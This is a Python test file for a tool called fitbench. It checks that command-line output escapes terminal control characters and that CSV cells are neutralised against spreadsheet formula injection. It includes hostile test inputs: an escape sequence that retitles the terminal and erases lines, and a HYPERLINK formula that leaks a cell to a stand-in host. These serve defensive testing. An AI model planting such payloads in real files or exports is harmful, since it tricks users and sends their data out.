"""Output is inert: what the command line prints from a folder carries no control character
(escape sequences retitled the terminal and erased lines), and no CSV fitbench writes holds a
cell a spreadsheet runs as a formula (a class named ``=HYPERLINK(...)``)."""

from __future__ import annotations

import csv
import json
import shutil
import tempfile
import unicodedata
from pathlib import Path

import numpy as np
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from fitbench import _io
from fitbench._inert import FORMULA_STARTS, printable, spreadsheet_safe
from tests.cli.test_cli import fitbench

# Set the window title, then erase the line and return to its start: what a hostile name does.
ESCAPES = "\x1b]0;owned\x07\x1b[2K\r\u202e"
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def _controls(text: str) -> list[str]:
    """The characters of ``text`` a terminal acts on (newlines between lines aside)."""
    return [c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")]


def test_runs_prints_hostile_folder_names_escaped(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    hostile = runs / f"r{ESCAPES}x"
    hostile.mkdir(parents=True)
    (hostile / "config.yaml").write_text("name: [unclosed")  # damaged: its problem line is printed too
    done = fitbench("runs", "--runs-dir", str(runs), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert _controls(done.stdout) == [] and _controls(done.stderr) == []
    assert "r\\x1b]0;owned\\x07" in done.stdout  # shown, escaped, not dropped: the person can find the folder


def test_diagnose_prints_hostile_findings_escaped(tiny_run: Path, tmp_path: Path) -> None:
    run = Path(shutil.copytree(tiny_run, tmp_path / f"run{ESCAPES}"))
    finding = {"code": f"c{ESCAPES}", "severity": "warning", "verdict": f"v{ESCAPES}",
               "evidence": f"e{ESCAPES}\nforged: line", "advice": f"a{ESCAPES}"}
    (run / "findings.json").write_text(json.dumps({"format": 2, "before_training": [finding]}))
    done = fitbench("diagnose", str(run), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert _controls(done.stdout) == [] and "v\\x1b]0;owned" in done.stdout
    assert not any(line.startswith("forged") for line in done.stdout.splitlines())  # a text stays one line


@pytest.mark.slow  # loads the model: about 10 s
def test_predict_csv_neutralises_a_formula_class_name(tiny_run: Path, tmp_path: Path) -> None:
    from PIL import Image

    run = Path(shutil.copytree(tiny_run, tmp_path / "run"))
    config = yaml.safe_load((run / "config.yaml").read_text())
    config["dataset"]["class_names"] = [f"{FORMULA}{k}" for k in range(10)]
    (run / "config.yaml").write_text(yaml.safe_dump(config))
    Image.fromarray(np.full((8, 8), 128, np.uint8)).save(tmp_path / "=cmd.png")
    out = tmp_path / "out.csv"
    done = fitbench("predict", str(run), str(tmp_path / "=cmd.png"), "-o", str(out), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(out.open(newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert rows[1][1].startswith("'=HYPERLINK(")  # the class, kept readable behind the quote
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


@given(st.text())
def test_printable_leaves_no_control_character(text: str) -> None:
    shown = printable(text)
    assert all(c.isprintable() or c == " " for c in shown)
    assert "\n" not in shown  # one line, whatever the text
    kept = printable(text, keep_newlines=True)
    assert all(c.isprintable() or c in " \n" for c in kept) and kept.count("\n") == text.count("\n")


@given(st.text())
def test_printable_changes_only_what_it_must(text: str) -> None:
    if all(c.isprintable() or c == " " for c in text):
        assert printable(text) == text
    else:
        assert len(printable(text)) > len(text)  # each escaped character shows as several


# A carriage return inside a cell is left out: the writer's lineterminator is "\n", so csv does
# not quote a lone "\r" and a reader splits the row there (a limit of the file's layout, not of
# the neutraliser; a leading "\r" is checked below).
_CELL = st.text(st.characters(blacklist_characters="\r"))


@given(st.lists(st.lists(st.one_of(_CELL, st.integers(), st.floats(allow_nan=False)), min_size=3, max_size=3),
                max_size=5))
def test_no_csv_cell_fitbench_writes_is_a_formula(rows: list[list]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "out.csv"
        _io.write_csv(path, ["a", "b", "c"], rows)
        written = list(csv.reader(path.open(newline="", encoding="utf-8")))[1:]
    for cells, row in zip(written, rows, strict=True):
        for cell, value in zip(cells, row, strict=True):
            if isinstance(value, str):
                assert not cell.startswith(FORMULA_STARTS)
                assert cell == (f"'{value}" if value.startswith(FORMULA_STARTS) else value)


def test_numbers_are_left_as_numbers() -> None:
    assert spreadsheet_safe(-1.5) == -1.5 and spreadsheet_safe("-1.5") == "'-1.5"
    assert [spreadsheet_safe(f"{start}x") for start in FORMULA_STARTS] == [f"'{start}x" for start in FORMULA_STARTS]
